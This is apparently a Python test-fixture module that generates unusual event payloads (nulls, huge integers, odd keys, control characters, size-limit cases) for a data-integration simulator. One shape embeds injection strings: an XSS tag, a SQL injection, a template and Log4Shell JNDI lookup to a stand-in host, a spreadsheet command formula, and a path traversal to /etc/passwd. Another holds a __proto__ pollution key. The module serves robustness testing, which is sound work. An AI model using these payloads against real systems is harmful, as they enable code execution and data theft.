"""Odd payloads: what stands in traits and properties, and how much of it."""

from __future__ import annotations

from random import Random

from simulator.generate.hostile.shapes import (
    ANY,
    CONTACTS,
    Make,
    clean,
    encode,
    one_of,
    refused,
    say,
    translated,
)
from simulator.generate.sdks import Message
from simulator.generate.specimens import Specimens

_LIMIT = 32_768
"""Bytes that Segment takes of a message."""


def nest(levels: int, value: object = "deep") -> Make:
    """Draws so many levels of objects or of lists."""

    def make(specimens: Specimens, at: int, chance: Random) -> object:
        in_lists, nested = chance.random() < 0.5, value
        for _ in range(levels):
            nested = [nested] if in_lists else {"in": nested}
        return nested

    return make


def _of_size(size: int) -> Make:
    """Makes a message of exactly so many bytes."""

    def make(specimens: Specimens, at: int, chance: Random) -> Message:
        message = clean(ANY, specimens, at, chance)
        key = "traits" if "traits" in message else "properties"
        message[key] = {**message[key], "notes": ""}
        message[key]["notes"] = "x" * (size - len(encode(message)))
        return message

    return make


SHAPES = (
    translated(
        "values_null",
        "Nulls among the values, as every second library writes what it doesn't know.",
        say(ANY, {"phone": None, "coupon": None, "nested": {"a": None, "b": [None]}}),
        often=4,
    ),
    translated(
        "values_nested",
        "Objects in objects.",
        say(ANY, {"plan": {"id": 7, "limits": {"seats": {"most": 10, "used": 3}}}, "empty": {}}),
        often=5,
    ),
    translated(
        "values_lists",
        "Lists: of texts, of objects, of everything, in each other, and empty.",
        say(
            ANY,
            {
                "tags": ["a", "b"],
                "items": [{"sku": "A-1", "quantity": 2}, {"sku": "A-2"}],
                "mixed": [1, "1", None, True, {}, [[]]],
                "none": [],
            },
        ),
        often=5,
    ),
    translated(
        "values_as_text",
        "Numbers, booleans, dates and whole objects as texts.",
        say(ANY, {"count": "1,234.50", "paid": "True", "when": "01/02/2026", "json": '{"a": [1]}'}),
    ),
    translated(
        "values_at_the_edge",
        "Numbers at the edge of what a double holds.",
        say(ANY, {"amount": one_of(1.7976931348623157e308, 5e-324, -0.0, 0.1 + 0.2, 1e22)}),
    ),
    translated(
        "integer_beyond_double",
        "An integer over 2**53, which JavaScript would round.",
        say(ANY, {"order": one_of(2**53 + 1, -(2**63), 2**64, 10**40 + 7)}),
    ),
    translated(
        "integer_of_4300_digits",
        "An integer of as many digits as can be read.",
        say(ANY, {"order": 10**4299 + 7}),
    ),
    translated(
        "keys_odd",
        "Keys with spaces, dots, dollars, brackets, slashes or two underscores; a blank one.",
        say(
            ANY,
            {
                "Total Spent": 12,
                "utm.source": "news",
                "$current_url": "/",
                "items[0]": "A-1",
                "a/b~c": 1,
                "__typename": "User",
                "clicked__last_30days": True,
                "": "blank",
            },
        ),
        often=2,
    ),
    translated(
        "keys_in_script",
        "Keys of other scripts, of emoji, with combining marks or controls.",
        say(
            ANY,
            {"日本": 1, "имя": "а", "🎉": True, "é": 1, "e\u0301": 2, "a\u0000b": 3, "\u202e": 4},
        ),
    ),
    translated(
        "keys_of_programs",
        "Keys that mean something to a program: __proto__, constructor, toString.",
        say(
            ANY, {"__proto__": {"admin": True}, "constructor": "x", "toString": None, "length": -1}
        ),
    ),
    translated(
        "keys_of_ours",
        "Keys that Salesmachine's operations have themselves.",
        say(
            ANY,
            {
                "method": "alias",
                "contact_uid": "another",
                "event_uid": "another",
                "previous_uid": "another",
                "messageId": "another",
                "params": {"params": {}},
                "created_at": "2026",
            },
        ),
    ),
    translated(
        "keys_many",
        "Hundreds of keys, as from a whole table's row.",
        say(ANY, {f"column_{number}": number for number in range(500)}),
    ),
    translated(
        "text_controls",
        "Texts with NUL, escape sequences, separators of lines and marks of direction.",
        say(
            ANY,
            {
                "note": "\u0000\u0007\u001b[2J\u0085\u2028\u2029\u202e\ufeff\uffff",
                "lines": "a\r\nb",
            },
        ),
    ),
    translated(
        "text_lone_surrogate",
        "A text, and a key, cut in the middle of an emoji.",
        say(ANY, {"note": "cut \ud83d", "\udc00": "key", "list": ["\udfff"]}),
    ),
    translated(
        "text_of_markup",
        "Texts that are a script, a query, a template or a formula to whoever trusts them.",
        say(
            ANY,
            {
                "comment": "<img src=x onerror=alert(1)>",
                "search": "' OR 1=1;--",
                "template": "{{7*7}} ${jndi:ldap://a.example/x} [red]",
                "formula": "=cmd|' /C calc'!A0",
                "path": "../../../etc/passwd%00",
            },
        ),
    ),
    translated(
        "text_long",
        "A text of twenty thousand characters, as of a page's whole content.",
        say(ANY, {"content": "lorem ipsum " * 1_700}),
    ),
    translated(
        "levels_100",
        "As many levels as can be read, the message being the first.",
        say(ANY, {"deep": nest(98)}),
    ),
    translated(
        "size_at_the_limit",
        "A message of 32,768 bytes: as many as Segment takes.",
        _of_size(_LIMIT),
    ),
    refused(
        "size_over_the_limit",
        "A message of a byte more than Segment takes.",
        _of_size(_LIMIT + 1),
        "message_too_large",
    ),
    refused(
        "size_with_an_image",
        "A message with an image in it, as base64.",
        say(CONTACTS, {"avatar": "data:image/png;base64," + "iVBORw0KGgoA" * 3_500}),
        "message_too_large",
    ),
    refused(
        "size_when_escaped",
        "A message of 18,000 bytes of another script, and twice as many once it is escaped.",
        say(CONTACTS, {"content": "日本語" * 2_000}),
        "message_too_large",
    ),
)
